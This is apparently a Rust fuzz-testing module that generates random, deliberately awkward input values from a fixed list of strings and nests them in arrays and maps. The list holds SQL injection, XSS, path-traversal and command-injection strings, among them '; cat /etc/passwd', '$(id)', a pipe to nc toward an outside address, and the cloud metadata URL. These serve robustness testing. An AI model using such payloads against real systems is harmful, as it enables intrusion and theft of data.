//! Values that nobody asked for.

use super::KEYS;
use crate::random::Random;
use crate::value::{Form, Text, Value, text};

/// Strings of all sorts: attacks, encodings, odd bytes.
pub(crate) const TEXTS: [&[u8]; 64] = [
    b"",
    b" ",
    b"a",
    b"harmless",
    b"Some longer text that does not fit in an object",
    b"1' or '1'='1",
    b"1 union select a,b from users--",
    b"'; drop table users; --",
    b"<script>alert(1)</script>",
    b"<img src=x onerror=alert(1)>",
    b"javascript:alert(1)",
    b"../../../../etc/passwd",
    b"..\\..\\windows\\win.ini",
    b"/etc/passwd",
    b"; cat /etc/passwd",
    b"$(id)",
    b"`id`",
    b"| nc 1.2.3.4 99",
    b"http://169.254.169.254/latest/meta-data/",
    b"https://user:pw@example.com:8080/p/a?q=1&r=2#frag",
    b"127.0.0.1",
    b"10.1.2.3",
    b"::1",
    b"2001:db8::ff00:42:8329",
    b"::ffff:1.2.3.4",
    b"4111111111111111",
    b"4111-1111-1111-1112",
    b"YWRtaW4=",
    b"YWRtaW4",
    b"%3Cscript%3E",
    b"%253Cscript%253E",
    b"%u003cscript%u003e",
    b"a+b%20c",
    b"&lt;b&gt;&#x41;&#65;&nbsp;",
    b"\\x41\\u0042\\n",
    b"\\41 \\000042c",
    b"/a/./b/../c",
    b"//x//y/",
    b"select/**/1",
    b"x -- y",
    b"x # y",
    b"x // y",
    b"x <!-- y --> z",
    b"  a   b\t\tc  ",
    b"c^m\"d' /x (y",
    b"path/to/file.php?x=1#y",
    b"\x00a\x00b\x00",
    b"\xff\xfe",
    b"\xc3",
    b"\xed\xa0\x80",
    b"\xf4\x90\x80\x80",
    "É ﬁ ½ ß Ⅳ 𝐀 ı".as_bytes(),
    "K ſ İ".as_bytes(),
    "\u{e0041}\u{e0042}\u{e007f}".as_bytes(),
    "a\u{200b}b\u{200d}c\u{ad}".as_bytes(),
    b"true",
    b"5",
    b"-1.5e3",
    b"null",
    b"{\"a\":[1,{\"b\":\"c\"}]}",
    b"password=hunter2&user=a",
    b"Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln",
    b"Mozilla/5.0 (X11; Linux x86_64)",
    b"line one\nline two\r\n",
];

/// A string: one of the list, spliced, shortened or with bytes changed.
pub(crate) fn string(random: &mut Random) -> Vec<u8> {
    let mut bytes = random.pick(&TEXTS).to_vec();
    match random.below(10) {
        0 | 1 => bytes = splice(random, &bytes),
        2 => bytes.truncate(random.between(0, bytes.len())),
        3 if !bytes.is_empty() => {
            let at = random.below(bytes.len());
            bytes[at] = random.next() as u8;
        }
        4 if random.chance(10) => {
            let times = random.between(10, 200);
            bytes = bytes.repeat(times);
        }
        _ => {}
    }
    bytes
}

/// The text with another one before, after or inside.
pub(crate) fn splice(random: &mut Random, bytes: &[u8]) -> Vec<u8> {
    let other = random.pick(&TEXTS);
    let at = match random.below(3) {
        0 => 0,
        1 => bytes.len(),
        _ => random.between(0, bytes.len()),
    };
    [&bytes[..at], other, &bytes[at..]].concat()
}

/// Gives a string another storage form now and then.
pub(crate) fn untidy(random: &mut Random, mut text: Text) -> Text {
    text.form = match random.below(12) {
        0 => Form::Heap,
        1 => Form::Literal,
        _ => Form::Natural,
    };
    text
}

const SIGNED: [i64; 8] = [0, 1, -1, 5, -6, 404, i64::MIN, i64::MAX];
const UNSIGNED: [u64; 8] = [0, 1, 4, 5, 6, 404, u64::MAX, 1 << 63];
const FLOATS: [f64; 16] = [
    0.0,
    -0.0,
    1.0,
    5.0,
    5.009,
    5.4,
    -5.5,
    4.9,
    0.1,
    1e21,
    1e-7,
    123_456_789.125,
    f64::INFINITY,
    f64::NEG_INFINITY,
    f64::NAN,
    1.797_693_134_862_315_7e308,
];

/// A scalar of any kind.
pub(crate) fn scalar(random: &mut Random) -> Value {
    match random.below(14) {
        0 => Value::Invalid,
        1 => Value::Null,
        2 => Value::Bool(random.chance(50)),
        3 => Value::Signed(random.choose(&SIGNED)),
        4 => Value::Unsigned(random.choose(&UNSIGNED)),
        5 => Value::Float(random.choose(&FLOATS)),
        _ => {
            let bytes = string(random);
            Value::String(untidy(random, Text::new(bytes)))
        }
    }
}

/// A value of any kind and at most that depth.
pub(crate) fn noise(random: &mut Random, depth: usize) -> Value {
    match random.below(if depth == 0 { 6 } else { 10 }) {
        6 | 7 => Value::Array((0..random.below(4)).map(|_| noise(random, depth - 1)).collect()),
        8 | 9 => {
            let entry = |random: &mut Random| {
                let key = if random.chance(75) {
                    Text::new(random.pick(&KEYS))
                } else {
                    let bytes = string(random);
                    untidy(random, Text::new(bytes))
                };
                (key, noise(random, depth - 1))
            };
            Value::Map((0..random.below(4)).map(|_| entry(random)).collect())
        }
        _ => scalar(random),
    }
}

/// A value with the wanted one somewhere in it.
pub(crate) fn around(random: &mut Random, wanted: Value) -> Value {
    let mut value = wanted;
    while random.chance(35) {
        let mut siblings: Vec<Value> = (0..random.below(3)).map(|_| noise(random, 1)).collect();
        let at = random.between(0, siblings.len());
        siblings.insert(at, value);
        value = if random.chance(50) {
            Value::Array(siblings)
        } else {
            Value::Map(siblings.into_iter().map(|v| (Text::new(random.pick(&KEYS)), v)).collect())
        };
    }
    value
}

/// A map with the wanted key somewhere in it.
pub(crate) fn keyed(random: &mut Random, key: Value) -> Value {
    let key = match key {
        Value::String(key) => key,
        _ => return noise(random, 2),
    };
    let mut entries: Vec<(Text, Value)> =
        (0..random.below(3)).map(|_| (Text::new(random.pick(&KEYS)), noise(random, 1))).collect();
    let at = random.between(0, entries.len());
    entries.insert(at, (key, text("v")));
    let map = Value::Map(entries);
    if random.chance(30) { Value::Map(vec![(Text::new("in"), Value::Array(vec![map]))]) } else { map }
}
